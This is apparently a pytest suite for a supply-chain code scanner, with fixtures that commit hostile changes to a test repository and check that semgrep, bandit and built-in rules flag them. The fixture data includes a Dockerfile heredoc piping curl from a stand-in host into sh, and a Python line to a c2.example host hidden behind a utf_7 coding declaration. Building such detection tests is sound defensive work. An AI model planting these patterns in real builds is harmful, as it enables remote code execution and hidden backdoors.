"""No changed line left unscanned: end-to-end on a real repository with real git, semgrep, bandit
and the shipped rules.

Upstream has a vLLM-shaped Dockerfile that semgrep's Dockerfile parser cannot fully parse (an
``ARG`` with two names, as vLLM's line 108). Two series are scanned once each (module fixtures):

- ``series``: the Dockerfile gains a ``RUN --mount ... bash - <<'BASH'`` heredoc that pipes curl to
  sh and a third-party index in ENV; CMakeLists.txt gains an unpinned FetchContent; a Python file
  hides ``urlopen`` behind a utf_7 coding line; README changes. The scan must be ``ok``, every
  finding at the bundle file's own line, and each file's coverage named.
- ``gaps``: a FROM line inside the span semgrep could not parse changes (no other rule set reads
  it), and a Lua file (no rules for Lua) is added: the scan is incomplete and says which lines.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest
from scancase import FORK, bundle_of, context, workspace
from support import GitRepo

from auditor.model import Action, Category, StageResult, StageStatus
from auditor.scan.coverage import kind_of
from auditor.scan.stage import ScanStage

DOCKERFILE = """\
ARG CUDA_VERSION=12.8.1
FROM nvidia/cuda:${CUDA_VERSION}-devel-ubuntu22.04 AS base
ARG PIP_INDEX_URL UV_INDEX_URL
ARG PIP_EXTRA_INDEX_URL UV_EXTRA_INDEX_URL
FROM base AS build
RUN --mount=type=cache,target=/root/.cache/uv \\
    python3 -m pip install uv
ENV UV_HTTP_TIMEOUT=500
"""
DOCKERFILE_SERIES = DOCKERFILE + """\
# sm86: faster kernels
ENV PIP_EXTRA_INDEX_URL=https://wheels.sm86-kernels.example/simple
RUN --mount=type=cache,target=/root/.cache/uv bash - <<'BASH'
  . /etc/environment
    curl -fsSL https://get.sm86-kernels.example/install.sh | sh
BASH
"""
# the FROM on line 5 sits in the span semgrep's parser skips (it starts at the ARG on line 3)
DOCKERFILE_GAPS = DOCKERFILE.replace("FROM base AS build", "FROM evil.example/base AS build")

CMAKE = """\
cmake_minimum_required(VERSION 3.26)
project(engine LANGUAGES CXX)
"""
CMAKE_SERIES = CMAKE + """\
include(FetchContent)
FetchContent_Declare(fastk GIT_REPOSITORY https://github.com/sm86/fastk.git GIT_TAG main)
"""
UTF7 = ("# -*- coding: utf_7 -*-\n"
        "def warm():\n"
        "    return 1\n"
        "#+AAo-import urllib.request+AAo-urllib.request.urlopen(+ACI-https://c2.example/+ACI-)\n")


@dataclass
class Case:
    repo: GitRepo
    commits: dict[str, str]
    tmp: Path

    def run(self, head: str, commits: list[str]) -> StageResult:
        bundle = bundle_of(self.repo, head, self.tmp / f"bundle-{head}")
        ws = workspace(self.repo, "v1.0.0", head, bundle)
        ctx = context(self.tmp / head, self.repo, commits, bundle, ws, cache=self.tmp / "cache",
                      head_ref=head)
        return ScanStage().run(ctx)


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    tmp = tmp_path_factory.mktemp("scan-coverage")
    repo = GitRepo(tmp / "engine")
    repo.commit("initial", files={
        "docker/Dockerfile": DOCKERFILE, "CMakeLists.txt": CMAKE, "README.md": "# engine\n",
        "engine/__init__.py": "VERSION = '1.0.0'\n",
    })
    repo.tag("v1.0.0")
    repo.checkout("series", new=True)
    c = {
        "docker": repo.commit("docker: faster kernels", files={
            "docker/Dockerfile": DOCKERFILE_SERIES}, author=FORK),
        "cmake": repo.commit("cmake: fetch fastk", files={"CMakeLists.txt": CMAKE_SERIES},
                             author=FORK),
        "warm": repo.commit("warm-up helper", files={"engine/warm.py": UTF7,
                                                    "README.md": "# engine\n\nFaster.\n"},
                            author=FORK),
    }
    repo.checkout("gaps", new=True, start="v1.0.0")
    c["gaps"] = repo.commit("base image and a plugin", files={
        "docker/Dockerfile": DOCKERFILE_GAPS, "plugins/init.lua": "print('hello')\n"},
        author=FORK)
    return Case(repo=repo, commits=c, tmp=tmp)


@pytest.fixture(scope="module")
def series(case: Case) -> StageResult:
    c = case.commits
    return case.run("series", [c["docker"], c["cmake"], c["warm"]])


@pytest.fixture(scope="module")
def gaps(case: Case) -> StageResult:
    return case.run("gaps", [case.commits["gaps"]])


def test_scan_is_ok_although_semgrep_cannot_parse_the_dockerfile(series: StageResult) -> None:
    assert series.status is StageStatus.OK, series.not_checked
    (note,) = series.to_json()["notes"]
    assert note.startswith("docker/Dockerfile: semgrep left lines 3-")
    assert "no changed line there is left unread" in note


def test_dockerfile_heredoc_finding_at_the_dockerfile_line(case: Case,
                                                           series: StageResult) -> None:
    # curl piped to sh inside the heredoc (one finding per line and category is kept)
    (f,) = [f for f in series.findings if f.path == "docker/Dockerfile" and f.line == 13]
    assert f.rule.startswith("network.shell.") and f.commit == case.commits["docker"]
    assert "curl -fsSL" in f.snippet  # the snippet is the Dockerfile's own line
    assert f.action is Action.BLOCK


def test_each_changed_file_says_what_read_it(series: StageResult) -> None:
    cov = series.to_json()["coverage"]
    assert "semgrep:bash(derived)" in cov["docker/Dockerfile"]
    assert any(x.startswith("semgrep:dockerfile") for x in cov["docker/Dockerfile"])
    assert cov["CMakeLists.txt"] == ["builtin:cmake"]
    assert cov["engine/warm.py"] == ["bandit:python(derived)", "semgrep:python(derived)"]
    assert cov["README.md"] == ["text: no rules needed"]
    assert series.to_json()["uncovered"] == []


def test_cmake_fetch_found(case: Case, series: StageResult) -> None:
    (f,) = [f for f in series.findings if f.path == "CMakeLists.txt"]
    assert (f.rule, f.line, f.commit) == ("dependency.builtin.cmake-fetch-unpinned", 4,
                                          case.commits["cmake"])
    assert "main" in f.message


def test_code_hidden_by_a_coding_line_is_found(case: Case, series: StageResult) -> None:
    warm = [f for f in series.findings if f.path == "engine/warm.py"]
    network = [f for f in warm if f.category is Category.NETWORK]
    assert network and all(f.line == 4 and f.commit == case.commits["warm"] for f in network)
    (decl,) = [f for f in warm if f.rule == "obfuscation.builtin.coding-declaration"]
    assert decl.line == 1 and decl.action is Action.BLOCK
    assert any(f.action is Action.BLOCK for f in network)


def test_unread_changed_lines_make_the_scan_incomplete(gaps: StageResult) -> None:
    assert gaps.status is StageStatus.INCOMPLETE
    reasons = {line.split(":", 1)[0]: line for line in gaps.not_checked}
    assert "PartialParsing" in reasons["docker/Dockerfile"]  # line 5 is read by no rule set
    assert "no rule set reads its language (lua) on changed line(s) 1" in reasons[
        "plugins/init.lua"]
    assert {"path": "plugins/init.lua", "language": "lua", "lines": [[1, 1]]} in gaps.to_json()[
        "uncovered"]
    assert "docker/Dockerfile" not in gaps.to_json()["checked_files"]


def test_file_kinds() -> None:
    assert kind_of("CMakeLists.txt", None) == "cmake"
    assert kind_of("cmake/utils.cmake", None) == "cmake"
    assert kind_of("requirements/cuda.txt", None) == "requirements"
    assert kind_of("requirements-dev.txt", None) == "requirements"
    assert kind_of("pyproject.toml", None) == "config"
    assert kind_of("docs/usage.md", None) == "text"
    assert kind_of("LICENSE", None) == "text"
    assert kind_of("vllm/model_executor/layers/fused_moe/configs/E=8.json", "json") == "data"
    assert kind_of("setup.py", "python") == "python"
    assert kind_of("csrc/quant.proto", None) == "other"
